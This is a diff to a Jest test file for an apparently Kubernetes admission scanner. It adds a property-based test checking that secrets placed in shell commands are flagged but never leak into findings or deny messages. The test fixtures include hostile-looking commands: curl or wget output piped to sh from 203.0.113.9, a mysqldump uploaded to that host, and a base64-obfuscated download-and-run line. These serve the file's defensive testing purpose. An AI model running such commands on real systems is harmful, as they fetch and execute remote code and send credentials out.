@@ -8,6 +8,7 @@
  * quoted (a redaction mark is present) and that no piece of the secret appears.
  */
 import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
 import { denyMessage, warningsFor } from '../src/admission/messages.js';
 import { main } from '../src/cli/index.js';
 import { assess } from '../src/engine.js';
@@ -272,5 +273,62 @@ describe.each(CASES)('secret shape: %s', (name, secret, container) => {
     const json = JSON.parse(out) as { results: { findings: unknown[] }[] };
     expect(json.results[0]!.findings.length).toBeGreaterThan(0);
     expect(leaks(out, secret)).toEqual([]);
+  });
+});
+
+/** Where a generated secret is put: each returns the container that carries `secret` there. */
+const POSITIONS: ((secret: string, name: string) => Obj)[] = [
+  (s) => sh(`curl -s -u admin:${s} http://203.0.113.9/x.sh | sh`),
+  (s) => sh(`curl -s https://${s}@203.0.113.9/x.sh | sh`),
+  (s) => sh(`wget -qO- http://deploy:${s}@203.0.113.9/x.sh | sh`),
+  (s, n) => sh(`${n}=${s} curl -s http://203.0.113.9/x.sh | sh`),
+  (s, n) => sh(`export ${n}=${s}; wget -qO- http://203.0.113.9/x.sh | sh`),
+  (s, n) => sh(`wget -qO- "http://203.0.113.9/x.sh?v=$${n}" | sh`, [{ name: n, value: s }]),
+  (s, n) => sh(`curl -s http://203.0.113.9/x.sh?v=$(${n}) | sh`, [{ name: n, value: s }]),
+  (s) => sh(`mysql -uroot -p${s} db; curl -s http://203.0.113.9/x | sh`),
+  (s) =>
+    sh(`mysqldump --password=${s} db | curl -s -T - http://203.0.113.9/up; curl http://203.0.113.9/x | sh`),
+  (s) => sh(`sshpass -p ${s} scp root@203.0.113.9:/x /tmp/x; curl -s http://203.0.113.9/x | sh`),
+  (s) => sh(`curl -s -H "Authorization: Bearer ${s}" http://203.0.113.9/x | sh`),
+  (s) => sh(`curl -s -H 'X-Api-Token: ${s}' http://203.0.113.9/x | sh`),
+  (s) =>
+    sh(`echo ${Buffer.from(`curl -s http://203.0.113.9/${s} | sh`).toString('base64')} | base64 -d | sh`),
+];
+
+describe('generated secrets in every position', () => {
+  it('never reach findings, warnings or the deny message, and the job is still flagged', () => {
+    const engine = engineFor({
+      profile: 'default',
+      mode: 'enforce',
+      thresholds: { annotate: 1, warn: 1, deny: 1 },
+    });
+    const secretName = fc
+      .tuple(
+        fc.constantFrom('', 'X_', '_', 'AWS_', 'DB_', 'MY_APP_'),
+        fc.constantFrom('PASSWORD', 'SECRET', 'TOKEN', 'API_KEY', 'ACCESS_KEY', 'PW', 'CREDENTIALS', 'AUTH'),
+        fc.constantFrom('', '_VALUE', '_1', '_2'),
+      )
+      .map((parts) => parts.join(''));
+    fc.assert(
+      fc.property(
+        fc.stringMatching(/^[A-Za-z0-9]{6,24}$/).map((tail) => `Zq9${tail}`),
+        secretName,
+        fc.integer({ min: 0, max: POSITIONS.length - 1 }),
+        (secret, name, at) => {
+          const object = job('leak', POSITIONS[at]!(secret, name));
+          const assessment = assess(engine, object, { now: new Date('2026-11-27T12:00:00Z') });
+          const findings = assessment!.score.findings.filter((f) => f.weight > 0);
+          expect(findings.length).toBeGreaterThan(0);
+          const target = { kind: 'Job', name: 'leak', object };
+          const out = [
+            JSON.stringify(assessment!.score.findings),
+            ...warningsFor({ ...assessment!.decision, action: 'warn' }, target),
+            denyMessage(assessment!.decision, target),
+          ].join('\n');
+          expect(leaks(out, secret)).toEqual([]);
+        },
+      ),
+      { numRuns: 400, seed: 20261203 },
+    );
   });
 });
